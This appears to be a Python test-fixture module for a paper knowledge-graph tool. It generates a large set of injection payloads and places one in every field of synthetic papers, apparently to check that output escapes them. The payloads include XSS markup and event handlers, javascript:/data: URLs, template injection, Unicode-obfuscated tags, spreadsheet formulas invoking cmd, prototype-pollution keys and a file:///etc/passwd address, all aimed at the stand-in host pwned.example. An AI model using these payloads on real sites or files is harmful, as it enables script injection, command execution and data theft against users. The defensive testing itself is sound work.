"""Texts that try to become code, and a graph that has one of them in each field of each paper."""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from paperkg.graph import KnowledgeGraph
    from paperkg.model import Extraction

CALL = "pwned(0)"
"""What payloads run; a row puts the number of the payload in its place."""
HOST = "http://pwned.example/0"
"""What payloads ask for, in the same way."""

_MARKUP = (
    "<script>pwned(0)</script>",
    "<ScRiPt >pwned(0)</sCrIpT >",
    "<script src=http://pwned.example/0></script>",
    "<script src=//pwned.example/0></script>",
    "<script type=module>pwned(0)</script>",
    "<script>/*<!--<script>*/pwned(0)</script>",
    "<svg><script>pwned(0)</script></svg>",
    "<svg><script href=data:text/javascript,pwned(0) /></svg>",
    "<img src=x onerror=pwned(0)>",
    "<img src=x:x onerror='pwned(0)'//",
    "<img/src=`x`onerror=pwned(0)>",
    "<IMG SRC=http://pwned.example/0 ONLOAD=pwned(0)>",
    "<img srcset='http://pwned.example/0 2x' onerror=pwned(0)>",
    "<image src=x onerror=pwned(0)>",
    "<svg onload=pwned(0)>",
    "<svg/onload=pwned(0)//",
    "<svg><animate onbegin=pwned(0) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned(0)><text y=20>click</text></a></svg>",
    "<svg><use href=http://pwned.example/0#a></use></svg>",
    "<svg><image href=http://pwned.example/0></image></svg>",
    "<svg><foreignObject><iframe src=javascript:pwned(0)></iframe></foreignObject></svg>",
    "<svg><style>@import'http://pwned.example/0'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(0)></style></mglyph></table></mtext></math>",
    "<math href=javascript:pwned(0)>click</math>",
    "<body onload=pwned(0)>",
    "<iframe src=javascript:pwned(0)></iframe>",
    "<iframe srcdoc='<script>parent.pwned(0)</script>'></iframe>",
    "<iframe src=http://pwned.example/0></iframe>",
    "<object data=javascript:pwned(0)></object>",
    "<object data=http://pwned.example/0></object>",
    "<embed src=http://pwned.example/0>",
    "<video><source onerror=pwned(0)></video>",
    "<video poster=http://pwned.example/0 src=x onerror=pwned(0)></video>",
    "<audio src=http://pwned.example/0 autoplay onerror=pwned(0)></audio>",
    "<details open ontoggle=pwned(0)>x</details>",
    "<input autofocus onfocus=pwned(0)>",
    "<select autofocus onfocus=pwned(0)><option>x</select>",
    "<textarea autofocus onfocus=pwned(0)></textarea>",
    "<div onmouseover=pwned(0) onclick=pwned(0)>hover</div>",
    "<div onpointerenter=pwned(0) style='position:fixed;inset:0'>over all</div>",
    "<a href=javascript:pwned(0)>click</a>",
    "<a href=' javascript:pwned(0)' accesskey=x>click</a>",
    "<a href='jAvAsCrIpT&colon;pwned(0)'>click</a>",
    "<a href='java&#9;script:pwned(0)'>click</a>",
    "<a href='data:text/html,<script>pwned(0)</script>'>click</a>",
    "<a ping=http://pwned.example/0 href=#>click</a>",
    "<form action=javascript:pwned(0)><button autofocus>go</button></form>",
    "<button formaction=javascript:pwned(0) form=search>go</button>",
    "<base href=http://pwned.example/0/>",
    "<meta http-equiv=refresh content='0;url=http://pwned.example/0'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=stylesheet href=http://pwned.example/0>",
    "<link rel=prefetch href=http://pwned.example/0>",
    "<link rel=preload as=script href=http://pwned.example/0>",
    "<link rel=dns-prefetch href=//pwned.example>",
    "<style>@import url(http://pwned.example/0);</style>",
    "<style>*{background:url(http://pwned.example/0)}</style>",
    "<p style=background:url(http://pwned.example/0)>styled</p>",
    "<marquee onstart=pwned(0)>x</marquee>",
    "<dialog open onclose=pwned(0)><form method=dialog><button>x</button></form></dialog>",
    "<template><script>pwned(0)</script></template>",
    "<custom-tag onfocus=pwned(0) tabindex=1 autofocus>x</custom-tag>",
    "<xmp><img title='</xmp><img src=x onerror=pwned(0)>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(0)>'>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>pwned(0)</script>]]>",
    "<?xml-stylesheet href='javascript:pwned(0)'?>",
)
_CLOSERS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "</script>",
    "</script >",
    "</SCRIPT\t>",
    "</title>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</option></select>",
    "</a></li></ul>",
    "</svg>",
    "-->",
    "--!>",
    "]]>",
    "*/",
    "</template>",
)
_BEHIND = ("<img src=x onerror=pwned(0)>", " onmouseover=pwned(0) autofocus onfocus=pwned(0) x=")
_SCRIPTS = (
    '";pwned(0);//',
    "';pwned(0);//",
    "`;pwned(0);//",
    "${pwned(0)}",
    '"-pwned(0)-"',
    "'-pwned(0)-'",
    '\\";pwned(0);//',
    "\\u003cscript>pwned(0)\\u003c/script>",
    "\\x3cimg src=x onerror=pwned(0)\\x3e",
    '"},"x":pwned(0)}//',
    '"]);pwned(0);([{"',
    "\u2028pwned(0)\u2029",
    "\n;pwned(0)//",
    "<!--<script>pwned(0)//",
    "</script/x><script>pwned(0)//",
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
)
_ADDRESSES = (
    "javascript:pwned(0)",
    "JaVaScRiPt:pwned(0)",
    " javascript:pwned(0)",
    "java\tscript:pwned(0)",
    "java\nscript:pwned(0)",
    "\x01javascript:pwned(0)",
    "javascript://http://e.example/%0apwned(0)",
    "javascript&colon;pwned(0)",
    "data:text/html,<script>pwned(0)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg==",
    "vbscript:pwned(0)",
    "blob:http://pwned.example/0",
    "file:///etc/passwd",
    "//pwned.example/0",
    "\\\\pwned.example\\0",
    'http://pwned.example/0"onmouseover="pwned(0)',
    "http://pwned.example/0'onmouseover='pwned(0)",
    "http://pwned.example/0><img src=x onerror=pwned(0)>",
    "https://user:pass@pwned.example/0?a=<script>pwned(0)</script>#<b>",
    "http://[::1/0",
    "view-source:http://pwned.example/0",
    "intent://pwned.example/0#Intent;end",
)
_TEMPLATES = (
    "{{pwned(0)}}",
    "{{constructor.constructor('pwned(0)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__ }}{{7*7}}",
    "#{pwned(0)}",
    "<%= pwned(0) %>",
    "[[${pwned(0)}]]",
    "%s %(x)s {0} {x!r} %n",
)
_SIGNS = (
    "\u202e<script>pwned(0)</script>\u202c",
    "\uff1cscript\uff1epwned(0)\uff1c/script\uff1e",
    "\u2039img src=x onerror=pwned(0)\u203a",
    "<\u200bscript>pwned(0)</script>",
    "<img\x0csrc=x\x0conerror=pwned(0)>",
    "<img\x0bsrc=x onerror=pwned(0)>",
    "\x1b]8;;javascript:pwned(0)\x07click\x1b]8;;\x07",
    "&lt;script&gt;pwned(0)&lt;/script&gt;",
    "&#60;img src=x onerror=pwned(0)&#62;",
    "&amp;lt;svg onload=pwned(0)&amp;gt;",
    "%3Cscript%3Epwned(0)%3C/script%3E",
    "+ADw-script+AD4-pwned(0)+ADw-/script+AD4-",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<svg onload=pwned(0)>\U0001f600",
    "e\u0301\u0301\u0301\u0301\u0301\u0301<img src=x onerror=pwned(0)>",
)
_CALCULATED = (
    '=HYPERLINK("http://pwned.example/0","click")',
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '\uff1dHYPERLINK("http://pwned.example/0","click")',
)
_NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "core",
    "facts",
    "details-0",
    "panel",
    "search",
    "search-list",
    "picture",
    "data",
    "outlines",
    "paperkg",
    "document",
    "window.name",
    "undefined",
    "null",
    "NaN",
    "..",
    "#",
    "apart",
    "entity:__proto__",
    "p0&entity=x#view=tables",
)


def payloads() -> list[str]:
    """All of them, each with its own number in what it runs and asks for."""
    behind = [closer + rest for closer in _CLOSERS for rest in _BEHIND]
    kinds = (_MARKUP, behind, _SCRIPTS, _ADDRESSES, _TEMPLATES, _SIGNS, _CALCULATED, _NAMES)
    texts = [text for kind in kinds for text in kind]
    return [
        text.replace(CALL, f"pwned({n})").replace(HOST, f"http://pwned.example/{n}")
        for n, text in enumerate(texts, 1)
    ]


def attacking_graph(texts: Sequence[str]) -> KnowledgeGraph:
    """A paper for each text, which has it in each of its fields, names an entity of that name, and the one before.

    It is made of values, for no source gives such entities, and files with such addresses are refused.
    """
    from paperkg.graph import KnowledgeGraph
    from paperkg.model import Decision, InputFile, Outcome, Provenance, Skip

    provenance = Provenance(
        version=texts[0],
        extractor=texts[0],
        files=tuple(InputFile(text, "0" * 64, text, 1) for text in texts),
        settings=tuple((text, text) for text in texts),
        skipped=tuple(Skip(text, 1, "record", text) for text in texts),
        outcomes=tuple(Outcome(Decision("reject", text, note=text), 0, text) for text in texts),
        lexicon="\n".join(texts),
    )
    extractions = [_attacking(texts, n) for n in range(len(texts))]
    return KnowledgeGraph.from_extractions(extractions, provenance)


def iri_of(texts: Sequence[str], n: int) -> str:
    """The IRI of the entity that has the name `texts[n]`."""
    from paperkg.model import ENTITY_TYPES
    from paperkg.resolution import DEFAULT_BASE, segment

    return f"{DEFAULT_BASE}{ENTITY_TYPES[n % len(ENTITY_TYPES)].lower()}/{segment(texts[n])}"


def _attacking(texts: Sequence[str], n: int) -> Extraction:
    from paperkg.model import (
        ENTITY_PREDICATES,
        ENTITY_TYPES,
        LINK_KINDS,
        RELATIONS,
        EntityRelation,
        ExtractedEntity,
        Extraction,
        Link,
        Listing,
        Organisation,
        Paper,
        PartialDate,
        Result,
        Span,
    )

    text = texts[n]
    abstract = f"{text} is compared with {text}."
    mention, again = Span("abstract", 0, len(text), text), Span("title", 0, len(text), text)
    whole = Span("abstract", 0, len(abstract), abstract)
    entities = tuple(
        ExtractedEntity(
            key=texts[k],
            name=texts[k],
            type=ENTITY_TYPES[k % len(ENTITY_TYPES)],
            named=True,
            relation=RELATIONS[n % len(RELATIONS)],
            confidence=0.5,
            evidence=whole,
            mentions=(again, mention),
            long_form=texts[k],
            family=texts[k],
            iri=iri_of(texts, k),
        )
        for k in dict.fromkeys((n, n - 1 if n else len(texts) - 1))
    )
    return Extraction(
        paper=Paper(
            id=text,
            title=text,
            abstract=abstract,
            date=PartialDate(text, None, 2, 8, 2020 + n % 7, text)
            if n % 2
            else PartialDate(text, 2020, 1 + n % 12),
            authors=(text, text),
            organisations=(Organisation(text, text),),
            listings=(Listing(text, n + 1), Listing(texts[n - 1], len(texts) + n)),
            url=text,
            sources=(text,),
        ),
        entities=entities,
        entity_relations=(
            EntityRelation(
                text, ENTITY_PREDICATES[n % len(ENTITY_PREDICATES)], entities[-1].name, 0.5, whole
            ),
        ),
        results=(
            Result(
                text,
                "change" if n % 2 else "absolute",
                float(n),
                text,
                mention,
                0.5,
                text,
                entities[-1].name,
                None,
            ),
        ),
        links=(Link(text, text, LINK_KINDS[n % len(LINK_KINDS)], mention),),
    )
